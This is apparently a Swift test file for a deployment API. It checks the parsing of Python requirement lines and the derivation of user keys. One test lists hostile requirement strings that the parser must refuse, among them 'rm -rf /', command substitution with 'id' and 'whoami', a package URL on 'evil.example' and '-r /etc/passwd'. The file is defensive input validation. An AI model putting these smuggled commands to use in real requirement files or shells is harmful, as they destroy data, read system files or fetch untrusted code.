import Testing

@testable import DeployAPI

/// Requirements as upstream's clients send them, validated strictly (docs/specs/rexec.md §5.3, §5.9).
@Suite("Requirements")
struct RequirementSetTests {
    @Test("the digest is upstream's: SHA-1 of python==X and the sorted rest, space-joined")
    func digest() throws {
        // Values from Python's hashlib over the same strings.
        let set = try RequirementSet(lines: ["python==3.11", "pandas==2.2.3", "numpy>=1.26"])
        #expect(set.digest == "06074ddc062ab46554bb3ec1381ec40992d7cf8c")
        #expect(try RequirementSet(lines: ["python==3.13"]).digest == "437fe66c50c55cf616472cb0a8ea28d620c86f0c")
        #expect(set.pythonVersion == "3.11")
        #expect(set.packages == ["pandas==2.2.3", "numpy>=1.26"])
        #expect(set.pipRequirementsFile == "pandas==2.2.3\nnumpy>=1.26\n")
    }

    @Test("PEP 508 forms pass: extras, version lists, wildcards, markers, comments and blanks")
    func accepted() throws {
        let lines = [
            "python==3.12", "  requests[socks,security] >=2.0, <3  ", "scipy (>=1.10)", "numpy==1.*",
            "pyarrow; python_version >= \"3.8\" and sys_platform == 'linux'", "# a comment", "", "zope.interface~=6.0",
            "tomli; (python_version < '3.11') or platform_machine != 'arm64'",
        ]
        let set = try RequirementSet(lines: lines)
        #expect(set.packages.count == 6)
        #expect(set.packages[0] == "requests[socks,security] >=2.0, <3")
    }

    @Test(
        "injection attempts and pip options are refused",
        arguments: [
            "numpy>=1.26; rm -rf /", "pkg @ http://evil.example/pkg.tar.gz", "numpy`id`", "numpy$(whoami)", "numpy && curl x",
            "-e .", "--index-url http://evil.example", "-r /etc/passwd", "numpy; python_version == \"`id`\"", "numpy>=1.0 | sh",
            "numpy\u{00}", "numpy; os_name == 'posix' ; rm", "numpy > = 1",
        ])
    func refused(line: String) {
        #expect(throws: RequirementSet.Invalid.self) { try RequirementSet(lines: ["python==3.11", line]) }
    }

    @Test("the Python pin: required, once, with == and a plain version")
    func pythonPin() {
        func message(_ lines: [String]) -> String? {
            do {
                _ = try RequirementSet(lines: lines)
                return nil
            } catch {
                return error.message
            }
        }
        #expect(message(["numpy"]) == "A pinned Python version (e.g., 'python==3.11') is required.")
        #expect(message(["python>=3.11"]) == "Python requirement must use '==' to pin a single version.")
        #expect(message(["python==3.11", "python==3.12"]) == "Only one Python requirement may be given.")
        #expect(message(["python==3.*"]) == "Python requirement must pin a version such as 'python==3.11'.")
        #expect(message(["python==3.11-slim"]) == "Python requirement must pin a version such as 'python==3.11'.")
        #expect(message(["Python==3.11.4"]) == nil)
        #expect(message(["python==3.11", "numpy", "NumPy==2"]) == "Invalid requirement 'NumPy==2': NumPy is listed twice.")
        #expect(
            message(["python==3.11", "pkg @ https://x/y.whl"])
                == "Invalid requirement 'pkg @ https://x/y.whl': direct URL references (name @ url) are not allowed.")
    }

    @Test("a file's worth of lines in one field is split, and the size is bounded")
    func multiline() throws {
        #expect(try RequirementSet(lines: ["python==3.11\nnumpy\r\npandas"]).packages == ["numpy", "pandas"])
        #expect(throws: RequirementSet.Invalid.self) { try RequirementSet(lines: ["python==3.11"] + (0..<201).map { "p\($0)" }) }
        #expect(throws: RequirementSet.Invalid.self) { try RequirementSet(lines: ["python==3.11", "p" + String(repeating: "a", count: 600)]) }
    }
}

@Suite("User keys")
struct UserKeyTests {
    @Test("a Keycloak UUID is its own key, so upstream's namespaces are found")
    func uuid() {
        let sub = "0b7d1c52-4a6e-4f0a-9d3e-5a1f2c3b4d5e"
        #expect(UserKey(sub: sub, maxLength: 50).value == sub)
    }

    @Test("other subs fold to a DNS label with a hash; different subs never share a key")
    func folded() {
        let subs = ["Alice", "alice_", "ALICE", "a--b", "user@example.org", "ünïcode", String(repeating: "x", count: 80), "", "-", "a.b", "a-b"]
        var keys: Set<String> = []
        for sub in subs {
            let key = UserKey(sub: sub, maxLength: 50).value
            #expect(key.count <= 50, "\(sub) → \(key)")
            #expect(UserKey.isPlainLabel(key.replacingOccurrences(of: "--", with: "-")), "\(sub) → \(key)")
            keys.insert(key)
        }
        #expect(keys.count == subs.count)
        #expect(UserKey(sub: "a-b", maxLength: 50).value == "a-b")
        #expect(UserKey(sub: "a--b", maxLength: 50).value.hasPrefix("a-b--"))
    }
}
